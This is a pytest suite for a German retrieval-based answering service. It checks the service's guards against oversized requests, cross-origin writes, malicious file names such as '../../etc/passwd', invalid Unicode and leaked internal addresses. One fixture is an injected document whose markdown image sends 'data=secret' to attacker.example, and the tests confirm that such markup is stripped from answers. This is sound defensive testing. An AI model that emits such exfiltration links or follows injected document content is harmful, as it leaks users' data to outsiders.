"""Hostile and oversized input over real HTTP (uvicorn on 127.0.0.1, real Chroma, fake embedder).

Each test names the fault of the reliability issue it covers; each fails on the code before
the guards (500s, silent partial stores, cross-origin writes, leaked records).
"""
from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from servers import serve

from app.answer.defang import defang
from app.answer.selection import Selector
from app.api import create_app
from app.engine import (
    MAX_HISTORY_CHARS,
    MAX_TURN_CHARS,
    AnswerEngine,
    LimitError,
    validate_question,
)
from app.library import Library
from app.messages import public_detail
from app.names import DocumentNameError, checked_name
from ingest.documents import Document
from store.retrieval import HybridRetriever

NOTE = ("Die Fähre zwischen Rason und Wladiwostok fährt seit 2023 zweimal pro Woche. "
        "Eine Fahrt dauert rund 14 Stunden.")
INJECTED = ("Die Anzahl der Fähren ist 3. ![x](http://attacker.example/x.png?data=secret) "
            "Mehr dazu [hier](http://attacker.example/more).")
ALLOWED = "https://intranet.example"


@pytest.fixture
def library(fake_library: Library) -> Library:
    fake_library.add_document(Document("faehre.txt", NOTE, {}))
    return fake_library


@pytest.fixture
def server(library: Library) -> Iterator[Any]:
    engine = AnswerEngine(HybridRetriever(library.store, library.embedder), Selector(None))
    app = create_app(engine, with_ui=False, max_upload_bytes=10_000,
                     max_request_bytes=200_000, allowed_origins=(ALLOWED,))
    with serve(app) as live:
        yield live


@pytest.fixture
def http(server: Any) -> Iterator[httpx.Client]:
    with server.client(timeout=60) as client:
        yield client


def _stored(http: httpx.Client) -> list[str]:
    return [d["source"] for d in http.get("/api/documents").json()["documents"]]


# --- fault 2: huge history and bodies -----------------------------------------------------------

def test_oversized_history_is_refused_naming_the_limit(http: httpx.Client) -> None:
    long_turn = {"role": "assistant", "content": "x" * (MAX_TURN_CHARS + 1)}
    r = http.post("/api/ask", json={"question": "Wie lange dauert die Fahrt?",
                                    "history": [long_turn]})
    assert r.status_code == 413 and str(MAX_TURN_CHARS) in r.json()["detail"]
    r = http.post("/api/ask", json={"question": "Und dann?",
                                    "history": [{"role": "user", "content": "a"}] * 101})
    assert r.status_code == 413 and "turns" in r.json()["detail"]


def test_history_total_is_capped() -> None:
    many = [{"role": "user", "content": "y" * 10_000}] * (MAX_HISTORY_CHARS // 10_000 + 1)
    with pytest.raises(LimitError, match=str(MAX_HISTORY_CHARS)):
        validate_question("Und dann?", many)
    validate_question("Und dann?", many[:10])  # a long conversation within the limit


def test_request_body_limit(http: httpx.Client) -> None:
    big = json.dumps({"question": "Fähre?", "history": [
        {"role": "user", "content": "z" * 150_000}] * 2})
    r = http.post("/api/ask", content=big, headers={"content-type": "application/json"})
    assert r.status_code == 413 and "BELEG_MAX_REQUEST_BYTES" in r.json()["detail"]

    def chunks() -> Iterator[bytes]:  # no Content-Length: counted as it arrives
        yield b'{"question": "F\xc3\xa4hre?", "history": [{"role": "user", "content": "'
        for _ in range(30):
            yield b"w" * 10_000
        yield b'"}]}'

    r = http.post("/api/ask", content=chunks(), headers={"content-type": "application/json"})
    assert r.status_code == 413
    assert http.post("/api/ask", json={"question": "Wie lange dauert die Fahrt?"}
                     ).status_code == 200


# --- fault 5: cross-origin writes ---------------------------------------------------------------

def test_cross_origin_writes_are_refused(http: httpx.Client, server: Any) -> None:
    files = [("files", ("faehre.txt", b"Ersetzt durch eine fremde Seite."))]
    r = http.post("/api/documents", files=files, headers={"Origin": "http://evil.example"})
    assert r.status_code == 403 and "BELEG_ALLOWED_ORIGINS" in r.json()["detail"]
    r = http.delete("/api/documents/faehre.txt", headers={"Origin": "null"})
    assert r.status_code == 403
    assert http.get("/api/documents/faehre.txt").json()["text"] == NOTE  # nothing replaced
    # The page's own origin, an allowed origin, and clients that send no Origin may write.
    own = server.url
    assert http.post("/api/documents", files=[("files", ("a.txt", NOTE.encode()))],
                     headers={"Origin": own}).status_code == 200
    assert http.post("/api/documents", files=[("files", ("b.txt", NOTE.encode()))],
                     headers={"Origin": ALLOWED}).status_code == 200
    assert http.delete("/api/documents/b.txt").status_code == 200
    # Reads stay open to any origin (they need the token when one is set).
    assert http.get("/api/documents", headers={"Origin": "http://evil.example"}
                    ).status_code == 200


# --- fault 6: file names ------------------------------------------------------------------------

def _raw_upload(http: httpx.Client, files: list[tuple[str, bytes]]) -> httpx.Response:
    """A multipart body written by hand: the names go on the wire byte for byte (httpx would
    percent-encode a NUL)."""
    boundary = "beleg-test-boundary"
    body = b""
    for name, data in files:
        body += (f"--{boundary}\r\nContent-Disposition: form-data; name=\"files\"; "
                 f"filename=\"{name}\"\r\nContent-Type: text/plain\r\n\r\n").encode() + data + b"\r\n"
    body += f"--{boundary}--\r\n".encode()
    return http.post("/api/documents", content=body,
                     headers={"content-type": f"multipart/form-data; boundary={boundary}"})


@pytest.mark.parametrize("name,reason", [
    ("bad\x00name.txt", "control characters"),
    ("n" * 300 + ".txt", "255"),
    (".", "file name"),
    ("..", "file name"),
    ("__state__", "reserved"),
])
def test_bad_names_get_their_own_reason_and_nothing_is_stored(http: httpx.Client, name: str,
                                                              reason: str) -> None:
    r = _raw_upload(http, [(name, NOTE.encode()), ("gut.txt", NOTE.encode())])
    assert r.status_code == 422, r.text
    body = r.json()
    assert len(body["failed"]) == 1 and reason in body["failed"][0]["reason"]
    assert body["added"] == [] and "nothing was stored" in body["detail"]
    assert _stored(http) == ["faehre.txt"]  # the good file was not stored silently


def test_name_rules() -> None:
    assert checked_name("../../etc/passwd") == "passwd"
    assert checked_name("ordner/datei.txt", allow_folders=True) == "ordner/datei.txt"
    for bad in ("", "a/../b.txt", "x\ny"):
        with pytest.raises(DocumentNameError):
            checked_name(bad, allow_folders=True)


# --- fault 8: invalid Unicode --------------------------------------------------------------------

@pytest.mark.parametrize("path,body", [
    ("/api/ask", '{"question": "Wie lange \\ud800?"}'),
    ("/api/ask", '{"question": "Wie lange?", "history": [{"role": "user", "content": "\\udfff"}]}'),
    ("/api/search", '{"query": "F\\ud800hre", "k": 2}'),
    ("/v1/chat/completions", '{"messages": [{"role": "user", "content": "\\ud800"}]}'),
    ("/v1/chat/completions",
     '{"messages": [{"role": "user", "content": [{"type": "text", "text": "\\ud800"}]}]}'),
])
def test_lone_surrogates_are_400(http: httpx.Client, path: str, body: str) -> None:
    r = http.post(path, content=body, headers={"content-type": "application/json"})
    assert r.status_code == 400, r.text
    body = r.json()  # /v1 answers in OpenAI's error shape
    assert "invalid Unicode" in (body["error"]["message"] if path.startswith("/v1/")
                                 else body["detail"])


def test_content_part_with_a_non_string_text_is_a_clear_4xx(http: httpx.Client) -> None:
    r = http.post("/v1/chat/completions", json={
        "messages": [{"role": "user", "content": [{"type": "text", "text": 5}]}]})
    assert r.status_code == 422 and "text" in r.json()["error"]["message"]


# --- fault 9: questions without content ----------------------------------------------------------

@pytest.mark.parametrize("question", ["\u200b\u200b\u200b", "?!?! ... ,,,", "😀" * 1000])
def test_questions_without_content_are_refused(http: httpx.Client, question: str) -> None:
    r = http.post("/api/ask", json={"question": question})
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["kind"] == "refused" and body["refused"] and body["citations"] == []
    assert body["sources"] == []


# --- fault 10: the internal state record ---------------------------------------------------------

def test_the_state_record_is_not_a_document(http: httpx.Client, library: Library) -> None:
    generation = library.store.generation()
    assert http.get("/api/documents/__state__").status_code == 404
    assert http.delete("/api/documents/__state__").status_code == 404
    assert library.store.generation() == generation
    assert _stored(http) == ["faehre.txt"]


# --- faults 12 and 13: notices and injected markup -----------------------------------------------

def test_notices_hide_internal_addresses() -> None:
    detail = ("cannot reach http://10.0.3.7:8080/v1/chat/completions (connection refused); "
              "also tried llm.internal.example:11434 and 192.168.1.5")
    shown = public_detail(detail)
    for secret in ("10.0.3.7", "8080", "llm.internal.example", "11434", "192.168.1.5"):
        assert secret not in shown
    assert "connection refused" in shown


def test_markdown_images_and_links_never_reach_an_answer(library: Library,
                                                         server: Any) -> None:
    library.add_document(Document("fremd.txt", INJECTED, {}))
    with server.client(timeout=60) as http:
        for body in ({"question": "Wie viele Fähren gibt es?"},):
            a = http.post("/api/ask", json=body).json()
            assert "attacker.example" not in a["answer"] and "![" not in a["answer"]
        chat = http.post("/v1/chat/completions", json={
            "messages": [{"role": "user", "content": "Wie viele Fähren gibt es?"}]}).json()
        content = chat["choices"][0]["message"]["content"]
        assert "fremd.txt" in content  # the injected passage was quoted ...
        assert "attacker.example" not in content and "![" not in content  # ... defanged


def test_defang_keeps_citation_markers() -> None:
    assert defang("2000 Soldaten [1] [2] und [1][2].") == "2000 Soldaten [1] [2] und [1][2]."
    assert defang("a ![b](http://x/y.png) c [d](https://e) f") == "a b c d f"


def test_a_full_queue_is_a_503_busy_not_a_pile_up(library: Library) -> None:
    engine = AnswerEngine(HybridRetriever(library.store, library.embedder), Selector(None),
                          answer_slots=1, queue_timeout_s=0.3)
    held = engine.stream("Wie lange dauert eine Fahrt?")
    next(held)  # this question holds the only slot
    with serve(create_app(engine, with_ui=False)) as live, live.client(timeout=30) as http:
        r = http.post("/api/ask", json={"question": "Wann fährt die Fähre?"})
        assert r.status_code == 503 and "busy" in r.json()["detail"], r.text
        assert r.headers["retry-after"]
        held.close()  # the slot comes free: the next question is answered
        assert http.post("/api/ask", json={"question": "Wann fährt die Fähre?"}).status_code == 200
